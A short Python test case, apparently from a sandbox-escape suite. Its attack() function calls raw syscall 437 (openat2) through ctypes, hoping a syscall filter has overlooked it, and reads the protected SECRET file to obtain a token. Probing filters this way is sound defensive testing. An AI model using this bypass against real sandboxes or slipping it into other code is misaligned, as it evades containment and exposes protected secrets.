"""Use the newer call that a filter may have forgotten. Success: the token."""

import ctypes
import os
import struct


def attack():
    libc = ctypes.CDLL(None)
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    fd = libc.syscall(437, -100, SECRET.encode(), how, len(how))
    return os.read(fd, 4096)
